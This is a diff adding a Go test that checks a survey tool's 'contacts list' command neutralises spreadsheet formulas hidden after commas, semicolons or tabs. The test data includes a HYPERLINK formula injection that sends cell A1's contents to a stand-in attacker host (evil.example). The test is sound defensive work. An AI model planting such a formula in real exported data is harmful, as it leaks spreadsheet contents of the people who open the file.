@@ -107,3 +107,35 @@ func TestContactsListNeutralisesFormulas(t *testing.T) {
 		t.Errorf("contacts list --raw: %q, %v", rec, err)
 	}
 }
+
+// TestContactsListFormulaAfterSeparator: contacts list is tab-separated;
+// saved as .csv it is split on commas (or semicolons), and a formula after
+// one must not run. Each part of every line, split on any of them, must
+// not begin as a formula.
+func TestContactsListFormulaAfterSeparator(t *testing.T) {
+	dsn := filepath.Join(t.TempDir(), "c.db")
+	db, err := store.Open(context.Background(), dsn)
+	if err != nil {
+		t.Fatal(err)
+	}
+	org := `x;=HYPERLINK("http://evil.example/?x="&A1,"click")`
+	addContacts(t, db, store.Contact{SurveySlug: slug, Name: "Ada,=1+12", Email: "ada@example.nhs.uk", Organisation: org})
+	db.Close()
+	_, out, _ := cli(t, "", "contacts", "list", "--db", dsn)
+	for _, part := range strings.FieldsFunc(out, func(r rune) bool { return strings.ContainsRune(",;\t\r\n", r) }) {
+		if p := strings.Trim(strings.TrimLeft(part, " "), `"`); p != "" && strings.ContainsRune("=+-@", rune(p[0])) {
+			t.Errorf("contacts list splits into %q, a formula:\n%s", p, out)
+		}
+	}
+	r := csv.NewReader(strings.NewReader(out))
+	r.Comma = '\t'
+	if rec, err := r.Read(); err != nil || len(rec) != 4 || rec[2] != "Ada,'=1+12" || rec[3] != `x;'=HYPERLINK("http://evil.example/?x="&A1,"click")` {
+		t.Errorf("contacts list: %q, %v", rec, err)
+	}
+	_, out, _ = cli(t, "", "contacts", "list", "--db", dsn, "--raw")
+	r = csv.NewReader(strings.NewReader(out))
+	r.Comma = '\t'
+	if rec, err := r.Read(); err != nil || rec[2] != "Ada,=1+12" || rec[3] != org {
+		t.Errorf("contacts list --raw: %q, %v", rec, err)
+	}
+}
